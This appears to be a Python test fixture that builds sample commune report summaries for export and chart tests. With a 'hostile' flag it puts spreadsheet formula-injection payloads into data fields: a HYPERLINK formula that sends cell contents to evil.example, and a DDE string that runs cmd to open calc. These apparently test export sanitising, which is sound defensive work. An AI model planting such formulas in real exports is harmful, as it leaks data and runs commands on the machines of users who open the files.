"""Summaries built by hand for the export and chart tests, and their documents."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime
from typing import Any

from bot.reports.model import (
    COUNTERS,
    Filters,
    Summary,
    SummaryRow,
    Target,
    WeekPoint,
    document,
)

TAN_PHU, BA_DINH = "00004", "00008"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
SMALL = {name: 3 for name in COUNTERS}
LARGE = {name: 1200 + index for index, name in enumerate(COUNTERS)}


def summary(*, hostile: bool = False, weekly: bool = True) -> Summary:
    """Three communes' rows: Tân Phú small (suppressed), Ba Đình large, one without a commune;
    `hostile` puts formulas where a module id, a group code and a filter value go."""
    module = HOSTILE if hostile else "A"
    group = "@SUM(1+1)*cmd|' /C calc'!A0" if hostile else "residents"
    rows = (
        SummaryRow("01", TAN_PHU, "residents", None, SMALL, Target(200, 70.0), 3),
        SummaryRow("01", TAN_PHU, group, module, {**SMALL, "course_completed": 0}),
        SummaryRow("01", BA_DINH, "pupils", None, LARGE, Target(2000, 100.0), 1204),
        SummaryRow("01", BA_DINH, None, None, LARGE, Target(None, None), 0),
        SummaryRow("01", None, "residents", None, LARGE),
    )
    totals = {name: SMALL[name] + 3 * LARGE[name] for name in COUNTERS}
    return Summary(
        generated_at=datetime(2026, 3, 2, 11, 0, tzinfo=UTC),
        admin_data_version="2025-07-01",
        content_version="abc123",
        filters=Filters(province="01", module=HOSTILE if hostile else None),
        start=date(2026, 1, 1),
        end=date(2026, 3, 1),
        rows=rows,
        totals=totals,
        totals_target=Target(2200, 95.0),
        totals_to_date_completed=1207,
        weekly=(
            (
                WeekPoint(date(2026, 2, 9), 40, 300, 2),
                WeekPoint(date(2026, 2, 16), 55, 410, 9),
                WeekPoint(date(2026, 2, 23), 61, 380, 12),
            )
            if weekly
            else ()
        ),
    )


def doc(**options: Any) -> dict[str, Any]:
    """The document of `summary(**options)` as a reader with no area sees it (suppressed)."""
    return document(summary(**options), None)


def empty_doc() -> dict[str, Any]:
    """A document with no rows, no totals and no weeks."""
    return document(replace(summary(weekly=False), rows=(), totals={}), None)
